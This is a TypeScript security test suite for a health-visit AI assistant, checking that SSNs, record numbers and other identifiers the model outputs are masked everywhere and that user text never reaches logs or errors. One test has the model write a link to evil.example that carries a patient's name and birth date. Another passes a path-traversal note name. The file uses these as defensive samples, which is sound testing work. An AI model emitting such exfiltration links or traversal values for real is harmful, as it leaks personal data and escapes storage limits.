/**
 * PII exfiltration (issue 17, safety.md §4 and §6): identifiers the model says (SSN, record, member,
 * account, license, vehicle and device numbers) are masked in the streamed `token` events, the final
 * text, the stored message, the export and the trace lines, however the stream cuts them; the audit log
 * never holds what the user or the model wrote; nothing the user types reaches stderr, stdout or the
 * console during a consult; error responses never echo the user's text. The user's own notes keep what
 * the user typed; masking is for what the model says.
 */
import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, vi } from "vitest";
import type { EventOf } from "../../../src/shared/contract";
import { family } from "../attack";
import type { EngineContext } from "../securityHarness";
import { attach, auditText, rejectPending, renderMarkdown, streamed, toolResults, writeNote } from "./promptInjection";

const VISIT = "Help me prepare for my visit next week";

/** The model says `text` (as `chunks` when given); returns the turn and everything the user was shown. */
async function modelSays(ctx: EngineContext, step: { text?: string; chunks?: string[] }) {
  ctx.script([step]);
  const done = await ctx.ask(VISIT);
  const tokens = streamed(ctx, done.turnId);
  const thread = (await ctx.call("threads.get", { threadId: done.threadId })) as { ok: true; result: { messages: { role: string; text: string }[] } };
  const stored = thread.result.messages.filter((m) => m.role === "assistant").map((m) => m.text).join("\n");
  return { done, shown: [tokens, done.text, stored] as const };
}

/** An identifier the model says is masked in the tokens, the answer and the stored message. */
function maskedIdentifierAttack(name: string, kind: string, said: string, secret: string, mask: string) {
  return {
    name,
    surface: "model output → token events, done text, stored message",
    payload: `the model says "${said}"`,
    expected: `the ${kind} shows as ${mask} in all three, never as ${secret}`,
    async run(ctx: EngineContext) {
      const { shown } = await modelSays(ctx, { text: `${said} Bring it to the front desk.` });
      for (const text of shown) {
        expect(text).not.toContain(secret);
        expect(text).toContain(mask);
      }
    },
  };
}

export const piiExfiltration = family<EngineContext>("pii-exfiltration", [
  maskedIdentifierAttack("ssn-with-spaces", "SSN", "Your SSN 123 45 6789 is on the form.", "123 45 6789", "[SSN]"),
  maskedIdentifierAttack("ssn-with-dots", "SSN", "The card says 123.45.6789 under your name.", "123.45.6789", "[SSN]"),
  maskedIdentifierAttack("ssn-after-label-and-verb", "SSN", "Your social security number is 123456789.", "123456789", "[SSN]"),
  {
    name: "mrn-in-bare-url-query",
    surface: "model output → token events, done text, stored message",
    payload: 'the model says "Open https://portal.example/chart?mrn=00123456 to see it."',
    expected: "the address carrying the MRN is cut to its site's name; the number shows nowhere",
    async run(ctx) {
      const { shown } = await modelSays(ctx, { text: "Open https://portal.example/chart?mrn=00123456 to see it." });
      for (const text of shown) {
        expect(text).not.toContain("00123456");
        expect(text).toContain("portal.example/…");
      }
    },
  },
  {
    name: "personal-link-neutralized-everywhere",
    surface: "model output → done text, stored message, agenda.export",
    payload: "the model writes [your form](https://evil.example/f?name=Maria%20Lopez&dob=1950-03-02)",
    expected: "only the words 'your form' remain: no address with the name or birth date in the answer, the thread or the export",
    async run(ctx) {
      const { done, shown } = await modelSays(ctx, { text: "Fill in [your form](https://evil.example/f?name=Maria%20Lopez&dob=1950-03-02) before the visit." });
      for (const text of shown) {
        expect(text).toContain("your form");
        expect(text).not.toMatch(/evil\.example|1950-03-02|Maria/);
      }
      const r = (await ctx.call("agenda.export", { threadId: done.threadId })) as { ok: true; result: { markdown: string } };
      expect(r.result.markdown).not.toMatch(/evil\.example|1950-03-02/);
    },
  },
  {
    name: "ssn-in-model-output",
    surface: "model output → token events, done text, stored message (threads.get)",
    payload: 'the model says "Your SSN 123-45-6789 is on the form; call the clinic at 555-201-3344."',
    expected: "the SSN is masked everywhere the user sees it; the clinic's phone stays",
    async run(ctx) {
      const { shown } = await modelSays(ctx, { text: "Your SSN 123-45-6789 is on the form; call the clinic at 555-201-3344." });
      for (const text of shown) {
        expect(text).not.toContain("123-45-6789");
        expect(text).toContain("[SSN]");
        expect(text).toContain("555-201-3344");
      }
    },
  },
  {
    name: "ssn-split-across-stream-chunks",
    surface: "streamed model output (token events)",
    payload: 'chunks "Your number is 12", "3-4", "5-67", "89 as printed."',
    expected: "no chunk boundary lets the SSN through: tokens, answer and stored text are masked",
    async run(ctx) {
      const { shown } = await modelSays(ctx, { chunks: ["Your number is 12", "3-4", "5-67", "89 as printed. ", "Bring the card."] });
      for (const text of shown) {
        expect(text).not.toMatch(/123-?45-?6789/);
        expect(text).toContain("[SSN]");
      }
    },
  },
  {
    name: "ssn-one-character-chunks",
    surface: "streamed model output (token events)",
    payload: "SSN 987-65-4320 streamed one character per chunk, with a label and a line break",
    expected: "masked in the tokens and the answer; the joined tokens never show even its last four digits",
    async run(ctx) {
      const text = "For the form:\nSSN: 987-65-4320. Keep it private.";
      ctx.script([{ chunks: [...text] }]);
      const done = await ctx.ask(VISIT);
      const tokens = ctx.events.of("token", done.turnId).map((t) => t.text);
      expect(tokens.join("")).not.toContain("987-65-4320");
      expect(done.text).not.toContain("987-65-4320");
      expect(tokens.join("")).not.toMatch(/4320/);
    },
  },
  maskedIdentifierAttack("ssn-labeled-without-dashes", "SSN", "Your SSN: 123456789 is on file.", "123456789", "[SSN]"),
  maskedIdentifierAttack("mrn-in-model-output", "medical record number", "Your MRN: 00123456 is on the wristband.", "00123456", "[MRN]"),
  maskedIdentifierAttack("member-id-in-model-output", "member id", "Your Member ID: XJ5551234 is on the card.", "XJ5551234", "[MEMBER ID]"),
  maskedIdentifierAttack("account-number-in-model-output", "account number", "Quote Account #: 99887766 when you call billing.", "99887766", "[ACCOUNT]"),
  maskedIdentifierAttack("drivers-license-in-model-output", "driver's license", "Bring your driver's license D1234567 for check-in.", "D1234567", "[LICENSE]"),
  maskedIdentifierAttack("vin-in-model-output", "vehicle id", "The parking permit lists VIN 1HGCM82633A004352.", "1HGCM82633A004352", "[VEHICLE ID]"),
  maskedIdentifierAttack("device-serial-in-model-output", "device serial", "Your pump's Serial number: SN-4455-XYZ9 goes on the form.", "SN-4455-XYZ9", "[DEVICE ID]"),
  {
    name: "ssn-in-markdown-link-url",
    surface: "model output (link URL) → tokens, answer + Markdown renderer",
    payload: "[Open your portal](https://portal.example/verify?q=123-45-6789)",
    expected: "the SSN inside the URL is masked in the tokens and the answer; rendered, no href carries it",
    async run(ctx) {
      const { done, shown } = await modelSays(ctx, { text: "Please [Open your portal](https://portal.example/verify?q=123-45-6789) before the visit." });
      for (const text of shown) expect(text).not.toContain("123-45-6789");
      const html = await renderMarkdown(done.text);
      expect(html).not.toContain("123-45-6789");
      expect(html).not.toMatch(/href="[^"]*\d{3}-?\d{2}-?\d{4}/);
    },
  },
  {
    name: "member-id-in-link-text",
    surface: "model output (link text) → tokens, answer + Markdown renderer",
    payload: "[Member ID: XJ5551234](https://plan.example/help)",
    expected: "the member id in the link's text is masked in what is streamed, stored and rendered",
    async run(ctx) {
      const { done, shown } = await modelSays(ctx, { text: "See [Member ID: XJ5551234](https://plan.example/help) for help." });
      for (const text of shown) expect(text).not.toContain("XJ5551234");
      expect(await renderMarkdown(done.text)).not.toContain("XJ5551234");
    },
  },
  {
    name: "trace-label-quotes-identifier",
    surface: "trace events (tool labels built from the model's arguments)",
    payload: 'note-read { name: "SSN 123-45-6789 card" } → label "Reading your note “…”"',
    expected: "the trace label the UI shows masks the SSN like the answer does",
    async run(ctx) {
      ctx.script([{ toolCalls: [{ name: "note-read", args: { name: "SSN 123-45-6789 card" } }] }, { text: "No such note." }]);
      const done = await ctx.ask(VISIT);
      const labels = ctx.events.of("trace", done.turnId).map((t) => t.label).join("\n");
      expect(labels).toContain("[SSN]");
      expect(labels).not.toContain("123-45-6789");
    },
  },
  {
    name: "identifiers-in-non-own-data-tool-arguments",
    surface: "skill-docs tool arguments (ClinicalSafety masks PII for tools that are not the user's own data)",
    payload: 'skill-docs { skill: "visit-prep SSN 123-45-6789" }',
    expected: "the tool gets the masked text (its result quotes [SSN]); the audit records only a count",
    async run(ctx) {
      const since = ctx.model.calls.length;
      ctx.script([{ toolCalls: [{ name: "skill-docs", args: { skill: "visit-prep SSN 123-45-6789" } }] }, { text: "Done." }]);
      await ctx.ask(VISIT);
      const results = toolResults(ctx, since).join("\n");
      expect(results).toContain("[SSN]");
      expect(results).not.toContain("123-45-6789");
      expect(auditText(ctx)).toContain('"pii_masked"');
      expect(auditText(ctx)).not.toContain("123-45-6789");
    },
  },
  {
    name: "approval-preview-of-note-with-ssn",
    surface: "workspace-note tool → approval.requested (preview) → consult.decide",
    payload: 'the model proposes a note "Card info" with content "SSN 123-45-6789 (from my card)", and its reply repeats the SSN',
    expected: "the chat text is masked; the preview is exactly what is written on approval (the user's own record); the SSN never reaches the audit",
    async run(ctx) {
      ctx.script([{ toolCalls: [{ name: "workspace-note", args: { title: "Card info", content: "SSN 123-45-6789 (from my card)" } }] }, { text: "Saved your SSN 123-45-6789 note." }]);
      const done = await ctx.ask("Save my card details as a note");
      expect(done.outcome).toBe("awaiting_approval");
      const [request] = ctx.events.of("approval.requested", done.turnId) as EventOf<"approval.requested">[];
      await ctx.call("consult.decide", { approvalId: request!.approvalId, decision: "approve" });
      const finished = await ctx.events.done(done.turnId, 1);
      expect(finished.text).not.toContain("123-45-6789");
      expect(streamed(ctx, done.turnId)).not.toContain("123-45-6789");
      expect(readFileSync(join(ctx.dataDir, "workspace", "notes", "Card info.md"), "utf8")).toBe(request!.proposed);
      expect(auditText(ctx)).not.toContain("123-45-6789");
    },
  },
  {
    name: "agenda-export-of-thread",
    surface: "agenda.export",
    payload: 'an answer in which the model said "SSN 123-45-6789, MRN: 00123456", exported as Markdown',
    expected: "the exported Markdown masks both; the user's own note keeps what they typed",
    async run(ctx) {
      await writeNote(ctx, "My card.md", "# My card\nSSN 123-45-6789");
      const { done } = await modelSays(ctx, { text: "Bring your card (SSN 123-45-6789, MRN: 00123456)." });
      const r = (await ctx.call("agenda.export", { threadId: done.threadId })) as { ok: true; result: { markdown: string } };
      expect(r.result.markdown).not.toContain("123-45-6789");
      expect(r.result.markdown).not.toContain("00123456");
      expect(r.result.markdown).toContain("[SSN]");
      const note = (await ctx.call("notes.read", { name: "My card.md" })) as { ok: true; result: { content: string } };
      expect(note.result.content).toContain("123-45-6789");
    },
  },
  {
    name: "audit-log-has-no-user-or-model-text",
    surface: "<data>/logs/audit.jsonl",
    payload: "a consult with unique markers in the message, an attachment, a note, the model's answer, a refused dosing answer and a note approval",
    expected: "the audit has run, tool, refuse and approval entries, and none of the markers",
    async run(ctx) {
      const m = (what: string) => `MK${what}${randomUUID().slice(0, 6)}`;
      const markers = { message: m("MSG"), attachment: m("ATT"), note: m("NOTE"), answer: m("ANS"), args: m("ARG") };
      await writeNote(ctx, "Marker.md", `# Marker\nline\n${markers.note}`);
      const id = await attach(ctx, "marker.txt", `Attachment ${markers.attachment}`);
      ctx.script([
        { toolCalls: [{ name: "attach-read", args: { name: "marker.txt" } }, { name: "note-read", args: { name: "Marker" } }] },
        { toolCalls: [{ name: "workspace-note", args: { title: "Marker note", content: markers.args } }] },
        { text: `Answer ${markers.answer}. Take 2 tablets of ibuprofen every 4 hours.` },
      ]);
      const done = await ctx.ask(`Help me prepare, ${markers.message}`, [id]);
      await rejectPending(ctx);
      const audit = auditText(ctx);
      for (const marker of Object.values(markers)) expect(audit).not.toContain(marker);
      expect(audit).not.toContain("ibuprofen");
      for (const event of ["run", "tool", "approval"]) expect(audit).toContain(`"event":"${event}"`);
      expect(ctx.events.of("done", done.turnId).length).toBeGreaterThan(1);
    },
  },
  {
    name: "console-and-stdio-get-no-user-text",
    surface: "process.stderr / process.stdout / console.* during consults",
    payload: "three consults carrying a marker: a normal answer, a tool error, and a model that throws",
    expected: "nothing written to stderr, stdout or the console contains the marker",
    async run(ctx) {
      const marker = `MKLOG${randomUUID().slice(0, 6)}`;
      const seen: string[] = [];
      const capture = (chunk: unknown) => {
        seen.push(String(chunk));
        return true;
      };
      const spies = [
        vi.spyOn(process.stderr, "write").mockImplementation(capture as never),
        vi.spyOn(process.stdout, "write").mockImplementation(capture as never),
        ...(["log", "info", "warn", "error", "debug", "trace"] as const).map((k) => vi.spyOn(console, k).mockImplementation((...a: unknown[]) => void capture(a.map(String).join(" ")))),
      ];
      try {
        ctx.script([{ text: `Here is your list ${marker}.` }]);
        await ctx.ask(`Help me prepare ${marker}`);
        ctx.script([{ toolCalls: [{ name: "workspace-note", args: { title: 7, content: marker } }] }, { text: "ok" }]);
        await ctx.ask(`Save a note ${marker}`);
        await rejectPending(ctx);
        ctx.script([{ error: `provider failed on ${marker}` }]);
        const failed = await ctx.ask(`Help me prepare ${marker}`);
        expect(failed.outcome).toBe("failed");
      } finally {
        for (const s of spies) s.mockRestore();
      }
      expect(seen.join("\n")).not.toContain(marker);
    },
  },
  {
    name: "rpc-errors-do-not-echo-user-text",
    surface: "dispatchRequest error responses (consult.ask, threads.rename, notes.write, consult.decide, attachments.add, settings.set)",
    payload: "invalid requests whose fields carry a marker (NUL in a message, a bad name, a bad enum, bad base64, a too-long title)",
    expected: "each is a typed error (invalid_input / not_found) whose message and issues never contain the marker",
    async run(ctx) {
      const marker = `MKERR${randomUUID().slice(0, 6)}`;
      const requests: [string, unknown][] = [
        ["consult.ask", { text: `${marker}\u0000` }],
        ["consult.ask", { text: marker, attachmentIds: [`${marker}!`] }],
        ["consult.ask", { text: marker, threadId: "t-missing", attachmentIds: ["a-missing"] }],
        ["threads.rename", { threadId: "t-missing", title: marker }],
        ["threads.rename", { threadId: "t-missing", title: marker.repeat(40) }],
        ["notes.write", { name: `${marker}/../x.md`, content: marker }],
        ["notes.read", { name: `${marker}.txt` }],
        ["consult.decide", { approvalId: "ap-missing", decision: marker }],
        ["consult.decide", { approvalId: "ap-missing", decision: "edit", editedContent: marker }],
        ["attachments.add", { name: `${marker}.txt`, dataBase64: `${marker}!!` }],
        ["settings.set", { language: marker }],
      ];
      for (const [method, params] of requests) {
        const r = await ctx.call(method, params);
        expect(r.ok, method).toBe(false);
        if (!r.ok) {
          expect(["invalid_input", "not_found"]).toContain(r.error.code);
          expect(JSON.stringify(r.error), method).not.toContain(marker);
        }
      }
    },
  },
]);

export const tables = [piiExfiltration];
